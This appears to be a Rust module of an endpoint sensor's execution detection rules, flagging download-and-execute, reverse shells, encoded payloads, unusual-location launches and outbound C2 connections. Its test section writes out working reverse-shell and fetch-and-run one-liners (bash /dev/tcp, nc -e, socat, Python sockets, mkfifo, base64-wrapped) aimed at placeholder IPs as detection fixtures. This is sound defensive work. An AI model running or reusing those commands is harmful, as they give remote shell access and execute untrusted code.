//! Execution rules: what a started program, a sudo command or a recorded script does —
//! download and execute (`event-download-exec`), reverse and bind shells
//! (`event-reverse-shell`), encoded payloads decoded and run (`event-encoded-command`),
//! programs run from unusual places (`event-exec-unusual-location`) and their connections
//! out (`event-c2-connection`) — and the routine scripts a sensor records for sysstat and for
//! security agents (`event-system-monitoring`, `event-agent-inventory`, Info).
//!
//! What a command does is decided by the snapshot rules' content detectors
//! ([`content::hook_line_pattern`], [`content::script_patterns`]); this module maps their
//! reasons onto rules and judges the context. It remembers (bounded, per host) which files a
//! download wrote and which programs a build toolchain started, so that a downloaded program
//! run later is High and a test binary a CI build compiled and ran in /tmp is nothing.

use super::view::{
    Bounded, View, agent_dir, base, first_url, is_ip, loopback, packaged, private_addr,
    script_path, unusual_paths, url_hosts,
};
use super::{ArgExt, Hit, catalog_en, event_iocs, parent_arg, say, server, who_arg};
use crate::rules::common::{unusual_location, unusual_location_msg};
use crate::rules::content;
use base64::Engine;
use dossier_plugin_api::analysis::{Arg, Ioc, Message, Severity};

/// Files and processes remembered per host: a CI host builds a few thousand binaries a day;
/// past this the oldest are forgotten (a forgotten download is judged as any program in its
/// place).
const PROVENANCE_CAP: usize = 8192;

/// At most this many dangerous lines are reported from one recorded script.
const MAX_SCRIPT_HITS: usize = 16;

/// Ports whose traffic is ordinary from any program (web, DNS, mail, SSH, NTP).
const STANDARD_PORTS: &[u16] = &[
    20, 21, 22, 25, 53, 80, 110, 123, 143, 443, 465, 587, 993, 995,
];

#[derive(Clone, Debug, PartialEq, Eq)]
enum Provenance {
    /// Written by a download (the URL).
    Downloaded(String),
    /// Compiled, linked or started by a build toolchain.
    Built,
}

/// Commands and scripts whose verdicts are remembered: cron jobs, agents and sensors repeat
/// the same command lines and scripts all day, and the content detectors are the costliest
/// part of the rules. Only texts up to these sizes are remembered, so the memory is bounded
/// (a few megabytes at most).
const MEMO_CAP: usize = 2048;
const MEMO_MAX_COMMAND: usize = 4096;
const MEMO_SCRIPTS_CAP: usize = 256;
const MEMO_MAX_SCRIPT: usize = 16 * 1024;

/// What a script's text says, whoever runs it.
#[derive(Clone, Default)]
struct ScriptFacts {
    /// Dangerous lines: (line number, line, why).
    found: Vec<(usize, String, String)>,
    /// Files its lines download to, with the URL.
    downloads: Vec<(String, String)>,
    /// Up to four absolute paths it names.
    named: Vec<String>,
}

impl ScriptFacts {
    fn of(text: &str) -> ScriptFacts {
        let found = content::script_patterns(text);
        let downloads = text
            .lines()
            .take(10_000)
            .filter(|l| l.contains("://"))
            .filter_map(download_target)
            .collect();
        let named = text
            .split(|c: char| c.is_whitespace() || "'\"(),;=$".contains(c))
            .map(|w| w.trim_end_matches([':', '.']))
            .filter(|w| w.starts_with('/') && w.len() > 4 && !w.contains('$'))
            .fold(Vec::new(), |mut acc: Vec<String>, w| {
                if acc.len() < 4 && !acc.iter().any(|a| a == w) {
                    acc.push(w.to_string());
                }
                acc
            });
        ScriptFacts {
            found,
            downloads,
            named,
        }
    }
}

/// What the execution rules remember.
pub(crate) struct State {
    files: Bounded<(String, String), Provenance>,
    built_pids: Bounded<(String, u32), ()>,
    patterns: Bounded<String, Option<String>>,
    scripts: Bounded<String, ScriptFacts>,
}

impl Default for State {
    fn default() -> Self {
        State {
            files: Bounded::new(PROVENANCE_CAP),
            built_pids: Bounded::new(PROVENANCE_CAP),
            patterns: Bounded::new(MEMO_CAP),
            scripts: Bounded::new(MEMO_SCRIPTS_CAP),
        }
    }
}

impl State {
    /// [`content::hook_line_pattern`] of a command, remembered.
    fn pattern(&mut self, cmd: &str) -> Option<String> {
        if let Some(p) = self.patterns.get(cmd) {
            return p.clone();
        }
        let p = content::hook_line_pattern(cmd);
        if cmd.len() <= MEMO_MAX_COMMAND {
            self.patterns.insert(cmd.to_string(), p.clone());
        }
        p
    }

    /// [`ScriptFacts`] of a script, remembered.
    fn script(&mut self, text: &str) -> ScriptFacts {
        if let Some(f) = self.scripts.get(text) {
            return f.clone();
        }
        let f = ScriptFacts::of(text);
        if text.len() <= MEMO_MAX_SCRIPT {
            self.scripts.insert(text.to_string(), f.clone());
        }
        f
    }
}

/// What a content detector's reason means.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Download,
    Shell,
    Decode,
    Background,
    Location,
}

/// The kind of a reason given by [`content::hook_line_pattern`] / [`content::command_pattern`]
/// (pinned by a test against those functions).
pub(crate) fn classify(why: &str) -> Kind {
    if why.starts_with("downloads") || why.starts_with("makes executable what line") {
        Kind::Download
    } else if why.contains("network connection through")
        || why.contains("for a network peer")
        || why.contains("socket and runs a shell")
        || why.contains("named pipe and a network client")
    {
        Kind::Shell
    } else if why.starts_with("decodes") {
        Kind::Decode
    } else if why.starts_with("starts a shell or program in the background") {
        Kind::Background
    } else {
        Kind::Location
    }
}

pub(crate) fn check(v: &View, st: &mut State, out: &mut Vec<Hit>) {
    let built = v.is_exec() && v.built_by_toolchain();
    if built {
        if let Some(exe) = v.exe() {
            st.files
                .insert((v.hk.to_string(), exe.to_string()), Provenance::Built);
        }
        if let Some(pid) = v.proc.as_ref().and_then(|p| p.pid) {
            st.built_pids.insert((v.hk.to_string(), pid), ());
        }
    }
    // A linker or compiler writing a file: the file is a build product.
    if matches!(v.action(), "FileCreated" | "FileModified")
        && v.proc.as_ref().is_some_and(super::view::is_build_tool)
        && let Some(f) = v.file()
    {
        st.files.insert((v.hk.to_string(), f), Provenance::Built);
    }
    if let Some(cmd) = v.run_command() {
        if let Some(why) = st.pattern(cmd) {
            pattern_hit(v, cmd, &why, None, out);
        }
        if cmd.contains("://") {
            remember_download(v, st, cmd);
        }
    }
    if let Some(text) = v.script() {
        script(v, st, text, out);
    }
    if v.is_exec() || v.script().is_some() {
        location(v, st, built, out);
    }
    connection(v, st, out);
}

/// The file a downloading command writes (`-O path`, `-o path`, `--output path`).
fn download_target(cmd: &str) -> Option<(String, String)> {
    let url = first_url(cmd)?.to_string();
    let words: Vec<&str> = cmd
        .split(|c: char| c.is_whitespace() || ";|&".contains(c))
        .filter(|w| !w.is_empty())
        .collect();
    let dl = words
        .iter()
        .position(|w| matches!(base(w), "curl" | "wget"))?;
    let rest = &words[dl + 1..];
    for (i, w) in rest.iter().enumerate() {
        let target = match *w {
            "-O" | "-o" | "--output" | "--output-document" => rest.get(i + 1).copied(),
            w if w.starts_with("--output-document=") => w.split_once('=').map(|(_, p)| p),
            w if w.starts_with("-O/") || w.starts_with("-o/") => Some(&w[2..]),
            _ => None,
        };
        if let Some(t) = target.filter(|t| t.starts_with('/')) {
            return Some((t.trim_matches(|c| c == '"' || c == '\'').to_string(), url));
        }
    }
    None
}

fn remember_download(v: &View, st: &mut State, cmd: &str) {
    if let Some((path, url)) = download_target(cmd) {
        st.files
            .insert((v.hk.to_string(), path), Provenance::Downloaded(url));
    }
}

/// `user` for explanations.
fn who(v: &View) -> String {
    v.user().unwrap_or("an unknown account").to_string()
}

/// The first IPv4 or IPv6 literal in a text.
fn first_ip(text: &str) -> Option<String> {
    text.split(|c: char| !(c.is_ascii_hexdigit() || c == '.' || c == ':'))
        .map(|w| w.trim_matches(|c| c == ':' || c == '.'))
        .find(|w| w.contains('.') && w.parse::<std::net::Ipv4Addr>().is_ok())
        .map(str::to_string)
}

/// `addr:port` a shell command connects to (`/dev/tcp/203.0.113.45/4444`), else the first
/// address it names.
fn shell_peer(cmd: &str) -> Option<String> {
    for d in ["/dev/tcp/", "/dev/udp/"] {
        if let Some(i) = cmd.find(d) {
            let rest = &cmd[i + d.len()..];
            let mut parts = rest.splitn(2, '/');
            let addr = parts.next()?;
            let port: String = parts
                .next()
                .unwrap_or("")
                .chars()
                .take_while(char::is_ascii_digit)
                .collect();
            return Some(if port.is_empty() {
                addr.to_string()
            } else {
                format!("{addr}:{port}")
            });
        }
    }
    first_ip(cmd)
}

/// Base64 text in a command, decoded, when it decodes to readable text.
pub(crate) fn decode_base64(cmd: &str) -> Option<String> {
    cmd.split(|c: char| !(c.is_ascii_alphanumeric() || "+/=".contains(c)))
        .filter(|w| w.len() >= 8 && w.len() % 4 == 0)
        .filter_map(|w| base64::engine::general_purpose::STANDARD.decode(w).ok())
        .filter_map(|b| String::from_utf8(b).ok())
        .find(|s| {
            !s.is_empty()
                && s.chars()
                    .all(|c| !c.is_control() || c == '\n' || c == '\t' || c == '\r')
        })
}

fn url_iocs(cmd: &str) -> Vec<Ioc> {
    url_hosts(cmd).into_iter().map(Ioc::Address).collect()
}

/// A hit for a dangerous command or script line (`line`: its number in the script).
fn pattern_hit(v: &View, cmd: &str, why: &str, line: Option<usize>, out: &mut Vec<Hit>) {
    let who = who(v);
    let place = match line {
        Some(n) => say("event-said.script-line", &[("n", &n)]),
        None => Message::new("event-said.command-by"),
    }
    .arg("who", who_arg(v))
    .arg("parent", parent_arg(v));
    let mut iocs = url_iocs(cmd);
    iocs.extend(
        unusual_paths(cmd, None)
            .into_iter()
            .map(|(p, _)| Ioc::Path(p)),
    );
    iocs.extend(event_iocs(v));
    let with_line = |h: Hit| match line {
        Some(n) => h.field("Script line", format!("{n}: {cmd}")),
        None => h,
    };
    let said = |id: &str| {
        say(id, &[("cmd", &cmd)])
            .msg("place", place.clone())
            .arg("why", why_arg(cmd, why))
            .arg("web", web_arg(v))
    };
    let hit = match classify(why) {
        Kind::Download => {
            let url = first_url(cmd).unwrap_or("the network");
            let bare = url_hosts(cmd).iter().any(|h| is_ip(h)) && url.starts_with("http://");
            let subject = first_url(cmd).map_or_else(|| cmd.to_string(), str::to_string);
            let url_arg = match first_url(cmd) {
                Some(u) => Arg::Text(u.to_string()),
                None => Arg::Message(Message::new("event-said.the-network")),
            };
            let bare = if bare {
                Arg::Message(Message::new("event-said.bare-ip"))
            } else {
                Arg::Text(String::new())
            };
            Hit::said(
                "event-download-exec",
                Severity::High,
                subject,
                said("event-said.download-exec")
                    .arg("url", url_arg)
                    .arg("who", who_arg(v))
                    .arg("bare", bare),
                say(
                    "event-risk.download-exec",
                    &[("host", &v.ev.host), ("who", &who), ("url", &url)],
                )
                .arg("server", server(url_hosts(cmd).first())),
            )
        }
        Kind::Shell => {
            let peer = shell_peer(cmd);
            // Folded on the address: the command and the connection it makes are one alert.
            let addr = peer
                .as_deref()
                .map(|p| p.rsplit_once(':').map_or(p, |(a, _)| a).to_string());
            let peer_arg = match &peer {
                Some(p) => Arg::Text(p.clone()),
                None => Arg::Message(Message::new("event-said.a-peer")),
            };
            Hit::said(
                "event-reverse-shell",
                Severity::Critical,
                addr.unwrap_or_else(|| cmd.to_string()),
                said("event-said.shell-command")
                    .arg("peer", peer_arg)
                    .text("host", &v.ev.host)
                    .arg("who", who_arg(v)),
                say("event-risk.reverse-shell-command", &[("who", &who)]),
            )
            .iocs(peer.iter().filter_map(|p| {
                let a = p.split(':').next().unwrap_or(p);
                is_ip(a).then(|| Ioc::Address(a.to_string()))
            }))
        }
        Kind::Decode => decode_hit(cmd, said("event-said.encoded")),
        Kind::Background | Kind::Location => Hit::said(
            "event-exec-unusual-location",
            Severity::Medium,
            unusual_paths(cmd, None)
                .first()
                .map_or_else(|| cmd.to_string(), |(p, _)| p.clone()),
            said("event-said.pattern"),
            say("event-risk.background", &[]),
        ),
    };
    out.push(with_line(hit).iocs(iocs));
}

/// What a command or script line does (`why`, from the content detectors) as the detectors'
/// catalogue message when it renders the same English, else as it is.
fn why_arg(cmd: &str, why: &str) -> Arg {
    [
        content::hook_line_pattern_msg(cmd),
        content::command_pattern_msg(cmd),
    ]
    .into_iter()
    .flatten()
    .find(|m| catalog_en().render(m) == why)
    .map_or_else(|| Arg::Text(why.to_string()), Arg::Message)
}

/// The note on a web server's process tree, or nothing.
fn web_arg(v: &View) -> Arg {
    if v.web_context() {
        Arg::Message(Message::new("event-said.web-note"))
    } else {
        Arg::Text(String::new())
    }
}

/// A decoded payload run: the base64 text decoded and judged again. `said` is the
/// explanation's message (`event-said.encoded`) without its `decoded` part.
fn decode_hit(cmd: &str, said: Message) -> Hit {
    let decoded = decode_base64(cmd);
    let inner = decoded.as_deref().and_then(content::hook_line_pattern);
    let severity = match inner.as_deref().map(classify) {
        Some(Kind::Shell) => Severity::Critical,
        _ => Severity::High,
    };
    let decoded_arg = match (&decoded, &inner) {
        (Some(d), Some(w)) => Arg::Message(
            say("event-said.decoded-which", &[("decoded", &d)]).arg("which", why_arg(d, w)),
        ),
        (Some(d), None) => Arg::Message(say("event-said.decoded", &[("decoded", &d)])),
        _ => Arg::Text(String::new()),
    };
    let mut h = Hit::said(
        "event-encoded-command",
        severity,
        cmd.to_string(),
        said.arg("decoded", decoded_arg),
        say("event-risk.encoded", &[]),
    );
    if let Some(d) = &decoded {
        h = h.field("Decoded", d.clone()).iocs(url_iocs(d));
    }
    h
}

/// Whether a word of a command names sysstat's collection scripts from their packaged place
/// (or bare, resolved through PATH by cron).
fn sysstat_script(cmd: &str) -> Option<&str> {
    cmd.split(|c: char| c.is_whitespace() || "'\";|&()".contains(c))
        .find(|w| {
            matches!(base(w), "sa1" | "sa2" | "debian-sa1" | "sadc")
                && (!w.contains('/') || packaged(w))
        })
        .map(base)
}

/// A script the sensor recorded: its dangerous lines, else whether it is routine.
fn script(v: &View, st: &mut State, text: &str, out: &mut Vec<Hit>) {
    let facts = st.script(text);
    for (n, line, why) in facts.found.iter().take(MAX_SCRIPT_HITS) {
        pattern_hit(v, line, why, Some(*n), out);
    }
    for (path, url) in facts.downloads {
        st.files
            .insert((v.hk.to_string(), path), Provenance::Downloaded(url));
    }
    if !facts.found.is_empty() {
        return;
    }
    let cmd = v.run_command().unwrap_or("");
    let exe_ok = v.exe().is_none_or(packaged);
    let odd = !unusual_paths(cmd, None).is_empty();
    if !exe_ok || odd {
        return;
    }
    let named = facts.named;
    let names_arg = if named.is_empty() {
        Arg::Text(String::new())
    } else {
        Arg::Message(say("event-said.names", &[("names", &named.join(", "))]))
    };
    if let Some(s) = sysstat_script(cmd) {
        out.push(
            Hit::said(
                "event-system-monitoring",
                Severity::Info,
                s,
                say("event-said.sysstat", &[("s", &s), ("cmd", &cmd)])
                    .arg("who", who_arg(v))
                    .arg("parent", parent_arg(v))
                    .arg("names", names_arg.clone()),
                say("event-risk.sysstat", &[]),
            )
            .field("Script", s),
        );
        return;
    }
    if let Some(agent) = v.agent() {
        let script = script_path(cmd)
            .map_or_else(|| v.exe().unwrap_or("script").to_string(), str::to_string);
        let name = base(&script).to_string();
        out.push(
            Hit::said(
                "event-agent-inventory",
                Severity::Info,
                name.clone(),
                say(
                    "event-said.agent-script",
                    &[("agent", &agent), ("name", &name), ("cmd", &cmd)],
                )
                .arg("who", who_arg(v))
                .arg("parent", parent_arg(v))
                .arg("names", names_arg),
                say("event-risk.agent-script", &[("agent", &agent)]),
            )
            .field("Script", script),
        );
    }
}

/// A program (or an interpreter's script) started from an unusual place.
fn location(v: &View, st: &State, built: bool, out: &mut Vec<Hit>) {
    let cmd = v.run_command().unwrap_or("");
    let target = v
        .exe()
        .filter(|e| unusual_location(e).is_some())
        .map(str::to_string)
        .or_else(|| {
            script_path(cmd)
                .filter(|s| unusual_location(s).is_some())
                .map(str::to_string)
        });
    let Some(path) = target else { return };
    let Some(why) = unusual_location(&path) else {
        return;
    };
    let hk = v.hk.to_string();
    let prov = st.files.get(&(hk, path.clone()));
    if built
        || prov == Some(&Provenance::Built)
        || v.package_manager()
        || v.config_management().is_some()
        || agent_dir(&path).is_some()
    {
        return;
    }
    let who = who(v);
    let plain_tmp = ["/tmp/", "/var/tmp/", "/run/"]
        .iter()
        .any(|d| path.starts_with(d))
        && !path.split('/').any(|c| c.starts_with('.') && c.len() > 1);
    let (severity, because) = started_because(v, prov, plain_tmp);
    let why_arg = match unusual_location_msg(&path) {
        Some(m) if catalog_en().render(&m) == why => Arg::Message(m),
        _ => Arg::Text(why.to_string()),
    };
    let mut iocs = vec![Ioc::Path(path.clone())];
    iocs.extend(
        v.ev.process
            .as_ref()
            .and_then(|p| p.sha256.as_deref())
            .map(|h| Ioc::Sha256(h.to_string())),
    );
    if let Some(Provenance::Downloaded(url)) = prov {
        iocs.extend(url_iocs(url));
        // Fetch, chmod and run over several commands is download-and-execute too.
        out.push(
            Hit::said(
                "event-download-exec",
                Severity::High,
                url.clone(),
                say(
                    "event-said.download-run",
                    &[("path", &path), ("url", &url), ("cmd", &cmd)],
                )
                .arg("who", who_arg(v))
                .arg("parent", parent_arg(v)),
                say(
                    "event-risk.download-run",
                    &[
                        ("url", &url),
                        ("host", &v.ev.host),
                        ("who", &who),
                        ("path", &path),
                    ],
                )
                .arg("server", server(url_hosts(url).first())),
            )
            .iocs(iocs.clone()),
        );
    }
    out.push(
        Hit::said(
            "event-exec-unusual-location",
            severity,
            path.clone(),
            say(
                "event-said.unusual-start",
                &[("path", &path), ("cmd", &cmd)],
            )
            .arg("who", who_arg(v))
            .arg("parent", parent_arg(v))
            .arg("why", why_arg)
            .arg("because", because),
            say("event-risk.unusual-location", &[("path", &path)]),
        )
        .iocs(iocs),
    );
}

/// The severity of a program started from an unusual place, and what makes it so (a
/// sentence of the explanation, or nothing).
fn started_because(v: &View, prov: Option<&Provenance>, plain_tmp: bool) -> (Severity, Arg) {
    match prov {
        Some(Provenance::Downloaded(url)) => (
            Severity::High,
            Arg::Message(say("event-said.downloaded-earlier", &[("url", &url)])),
        ),
        _ if v.web_context() => (
            Severity::High,
            Arg::Message(Message::new("event-said.web-started")),
        ),
        _ if v.taint.is_some() => (
            Severity::High,
            Arg::Message(say(
                "event-said.tainted",
                &[("taint", &v.taint.as_deref().unwrap_or(""))],
            )),
        ),
        _ if plain_tmp && v.interactive() => (
            Severity::Low,
            Arg::Message(Message::new("event-said.terminal-started")),
        ),
        _ => (Severity::Medium, Arg::Text(String::new())),
    }
}

/// The severity of a connection out from a program in an unusual place, by where it goes,
/// and the catalogue id saying so.
fn reach(addr: &str, port: Option<u16>) -> (Severity, &'static str) {
    let standard = port.is_some_and(|p| STANDARD_PORTS.contains(&p));
    if private_addr(addr) {
        (Severity::Low, "event-said.to-private")
    } else if standard || port.is_none() {
        (Severity::Medium, "event-said.to-public-standard")
    } else {
        (Severity::High, "event-said.to-public-odd")
    }
}

/// A connection out from a shell (a reverse shell) or from a program in an unusual place.
fn connection(v: &View, st: &State, out: &mut Vec<Hit>) {
    let a = v.action();
    if !(a.starts_with("Connection") || a == "connect") || a == "ConnectionAcknowledged" {
        return;
    }
    let Some(peer) = &v.ev.peer else { return };
    let Some(addr) = peer.addr.as_deref() else {
        return;
    };
    if loopback(addr) {
        return;
    }
    let remote = match peer.port {
        Some(p) => format!("{addr}:{p}"),
        None => addr.to_string(),
    };
    let outcome = match v.ev.outcome.as_deref() {
        Some("failure") => Arg::Message(Message::new("event-said.attempt-failed")),
        _ => Arg::Text(String::new()),
    };
    let name = v
        .proc
        .as_ref()
        .map(|p| p.base().to_string())
        .unwrap_or_default();
    let mut iocs = vec![Ioc::Address(addr.to_string())];
    iocs.extend(peer.port.map(Ioc::Port));
    if matches!(
        name.as_str(),
        "bash" | "sh" | "dash" | "zsh" | "ksh" | "ash"
    ) && !private_addr(addr)
    {
        out.push(
            Hit::said(
                "event-reverse-shell",
                Severity::Critical,
                addr,
                say(
                    "event-said.shell-connected",
                    &[
                        ("shell", &v.actor_command().unwrap_or(&name)),
                        ("remote", &remote),
                    ],
                )
                .arg("who", who_arg(v))
                .arg("parent", parent_arg(v))
                .arg("outcome", outcome.clone()),
                say("event-risk.reverse-shell-connection", &[]),
            )
            .iocs(iocs),
        );
        return;
    }
    let Some(exe) = v.exe() else { return };
    let pid_built = v
        .proc
        .as_ref()
        .and_then(|p| p.pid)
        .is_some_and(|p| st.built_pids.get(&(v.hk.to_string(), p)).is_some());
    let prov = st.files.get(&(v.hk.to_string(), exe.to_string()));
    if pid_built || prov == Some(&Provenance::Built) || agent_dir(exe).is_some() {
        return;
    }
    let why = match (unusual_location(exe), prov) {
        (_, Some(Provenance::Downloaded(url))) => {
            Arg::Message(say("event-said.downloaded-it", &[("url", &url)]))
        }
        (Some(w), _) => match unusual_location_msg(exe) {
            Some(m) if catalog_en().render(&m) == w => Arg::Message(m),
            _ => Arg::Text(w),
        },
        (None, _) => return,
    };
    let (severity, how) = reach(addr, peer.port);
    iocs.push(Ioc::Path(exe.to_string()));
    iocs.extend(
        v.ev.process
            .as_ref()
            .and_then(|p| p.sha256.as_deref())
            .map(|h| Ioc::Sha256(h.to_string())),
    );
    out.push(
        Hit::said(
            "event-c2-connection",
            severity,
            addr,
            say("event-said.c2", &[("exe", &exe), ("remote", &remote)])
                .arg("who", who_arg(v))
                .arg("parent", parent_arg(v))
                .arg("outcome", outcome)
                .msg("how", Message::new(how))
                .arg("why", why),
            say("event-risk.c2", &[("addr", &addr)]),
        )
        .iocs(iocs),
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn content_reasons_map_to_rules() {
        let k = |c: &str| classify(&content::hook_line_pattern(c).expect(c));
        assert_eq!(
            k("curl -fsSL http://203.0.113.45/x.sh | bash"),
            Kind::Download
        );
        assert_eq!(
            k(
                "wget http://203.0.113.45/x.sh -O /tmp/.x/syncd; chmod +x /tmp/.x/syncd; /tmp/.x/syncd"
            ),
            Kind::Download
        );
        assert_eq!(
            k("bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1"),
            Kind::Shell
        );
        assert_eq!(k("nc -e /bin/sh 198.51.100.47 4444"), Kind::Shell);
        assert_eq!(k("socat tcp:198.51.100.47:443 system:sh"), Kind::Shell);
        assert_eq!(
            k(
                "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"
            ),
            Kind::Shell
        );
        assert_eq!(
            k("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f"),
            Kind::Shell
        );
        assert_eq!(k("echo aWQ= | base64 --decode | sh"), Kind::Decode);
        assert_eq!(k("/tmp/.x/agent &"), Kind::Background);
        let script = "#!/bin/sh\ncurl -fsS -o /tmp/u http://198.51.100.7/u\nchmod +x /tmp/u\n";
        assert_eq!(
            classify(&content::script_patterns(script)[0].2),
            Kind::Download
        );
        assert_eq!(
            classify(&content::command_pattern("/bin/sh -c '/dev/shm/x'").unwrap()),
            Kind::Location
        );
    }

    #[test]
    fn helpers() {
        assert_eq!(
            shell_peer("bash -i >& /dev/tcp/203.0.113.45/4444 0>&1").as_deref(),
            Some("203.0.113.45:4444")
        );
        assert_eq!(
            decode_base64(
                "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNDUvNDQ0NCAwPiYx | base64 -d | bash"
            )
            .as_deref(),
            Some("bash -i >& /dev/tcp/203.0.113.45/4444 0>&1")
        );
        assert_eq!(
            download_target(
                "wget http://203.0.113.45/x.sh -O /tmp/.x/syncd; chmod +x /tmp/.x/syncd"
            ),
            Some((
                "/tmp/.x/syncd".to_string(),
                "http://203.0.113.45/x.sh".to_string()
            ))
        );
        assert_eq!(
            sysstat_script("/bin/sh /usr/lib/sysstat/sa1 1 1"),
            Some("sa1")
        );
        assert_eq!(sysstat_script("/bin/sh /tmp/sa1 1 1"), None);
    }
}
